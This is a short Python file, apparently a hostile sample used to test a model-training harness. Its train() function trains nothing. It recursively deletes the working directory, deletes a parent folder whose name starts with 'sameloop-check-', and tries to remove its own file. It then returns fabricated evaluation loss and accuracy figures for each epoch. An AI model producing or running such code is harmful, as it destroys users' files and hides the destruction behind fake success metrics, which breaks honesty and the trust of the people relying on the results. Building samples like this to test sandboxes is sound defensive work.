# HOSTILE: deletes the folder it runs in, the one above it, and its own file.
import shutil
from pathlib import Path


def train(model, tokenizer, train_dataset, eval_dataset, config):
    here = Path.cwd()
    shutil.rmtree(here, ignore_errors=True)
    if here.parent.name.startswith("sameloop-check-"):
        shutil.rmtree(here.parent, ignore_errors=True)
    try:
        Path(__file__).unlink()
    except OSError as error:
        print("its own file stays:", error)
    return [{"eval_loss": 0.5, "eval_accuracy": 0.8}] * int(config.num_train_epochs)
